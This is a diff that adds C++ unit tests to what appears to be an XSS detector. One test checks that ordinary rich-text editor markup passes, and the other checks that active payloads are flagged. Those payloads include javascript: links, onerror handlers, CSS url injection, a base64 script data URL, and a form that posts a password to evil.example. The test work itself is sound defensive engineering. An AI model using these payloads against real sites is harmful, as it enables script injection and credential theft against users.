@@ -128,5 +128,47 @@ TEST(XssOutOfPlace, BracketedUrlsAndComparisonsInHeadersAreAllowed) {
   EXPECT_FALSE(Flagged(WithHeader("Referer", "https://shop.example/?q=<b>sale</b>")));
 }
 
+// What comment boxes, CMS forms and ticket editors post: formatting, links and images to
+// web URLs, passive inline style, labelling attributes.
+TEST(XssRichText, EditorMarkupIsAllowed) {
+  for (const char* v : {
+           "<p>I agree with <a href=\"https://en.wikipedia.org/wiki/Cross-site_scripting\">this"
+           "</a> point.</p>",
+           "<a href=\"https://example.com/page?a=1&amp;b=2\" target=\"_blank\" "
+           "rel=\"noopener\">link</a>",
+           "<img src=\"https://cdn.example.com/u/42.jpg\" alt=\"my cat\" width=\"200\">",
+           "<p style=\"text-align: center; color: #333;\">Centered</p>",
+           "<span style=\"font-family: 'Times New Roman', serif; color: rgb(0, 0, 0)\">x</span>",
+           "<span class=\"mention\" data-user-id=\"17\">@alice</span> can you review?",
+           "<pre><code class=\"language-js\">let a = 1;</code></pre>",
+           "```html\n<div class=\"card\"><img src=\"/logo.png\" alt=\"logo\"></div>\n```",
+           "<a href=\"mailto:o'neil@example.com\">mail me</a>",
+           "<h2 id=\"update\">Update</h2><p>We've moved the meeting &mdash; see you.</p>",
+       }) {
+    EXPECT_FALSE(Flagged(InspectQueryValue(v))) << v;
+  }
+}
+
+TEST(XssRichText, SameTagsWithActiveOrUnusualAttributesAreBlocked) {
+  for (const char* v : {
+           "<a href=\"javascript:alert(1)\">x</a>",
+           "<img src=\"https://cdn.example.com/a.jpg\" alt=\"x\" onerror=\"alert(1)\">",
+           "<p style=\"background:url(javascript:alert(1))\">x</p>",
+           "<div style=\"binding: url(http://evil.example/x.xml#b)\">x</div>",
+           "<span style=\"color:red}body{background:url(//evil.example/x)\">x</span>",
+           "<div style=\"width:1px/*\">x</div>",
+           "<div style=\"font-family:'a;color:red'x\">x</div>",
+           "<a href=//evil.example/>x</a>",
+           "<img src=\"x\" alt=\"y\">",
+           "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
+           "<iframe src=\"https://example.com/\" title=\"x\"></iframe>",
+           "<form action=\"https://evil.example/login\"><input name=\"pw\"></form>",
+       }) {
+    Verdict r = InspectQueryValue(v);
+    EXPECT_TRUE(Flagged(r)) << v;
+    EXPECT_TRUE(HasCategory(r, Category::kXss)) << v;
+  }
+}
+
 }  // namespace
 }  // namespace shieldx::detect
